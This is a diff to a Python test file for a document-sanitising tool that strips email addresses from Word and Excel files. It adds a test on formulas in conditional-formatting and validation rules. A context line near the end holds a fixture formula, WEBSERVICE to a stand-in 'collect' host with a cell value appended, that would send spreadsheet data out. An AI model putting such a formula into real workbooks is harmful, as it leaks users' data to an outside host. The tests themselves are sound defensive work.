@@ -321,6 +321,22 @@ def test_a_document_loses_the_paragraphs_of_dropped_values_and_no_others() -> No
     assert body(cleaned(building.docx(before), "a.docx", policy)) == after
 
 
+@pytest.mark.parametrize("policy", [STRIP, {"rules": [{"rule": "pii.email", "action": "drop-cell"}]}], ids=["strip", "drop-cell"])
+@pytest.mark.parametrize(
+    "rule",
+    [
+        "<conditionalFormatting><cfRule><formula>{}</formula></cfRule></conditionalFormatting>",
+        "<dataValidations><dataValidation><formula1>{}</formula1><formula2>1</formula2></dataValidation></dataValidations>",
+    ],
+    ids=["conditional format", "rule for input"],
+)
+def test_a_formula_outside_of_a_cell_is_never_empty(rule: str, policy: dict[str, Any] | CleanPolicy) -> None:
+    """A program takes an empty one for damage."""
+    sheet = f"<worksheet><sheetData></sheetData>{rule}</worksheet>"
+    found = parts(cleaned(building.xlsx({"S": sheet.format(f'"{MAIL}" &amp; "b"')}), "a.xlsx", policy))
+    assert found["xl/worksheets/sheet1.xml"].decode() == sheet.format('""')
+
+
 def test_the_chain_of_calculation_goes_with_a_formula() -> None:
     """A program takes a chain with a cell that has no formula for damage. It makes a missing one anew."""
     sheet = '<worksheet><sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://collect.example-host.com/?q="&amp;B1)</f><v>x</v></c></row></sheetData></worksheet>'
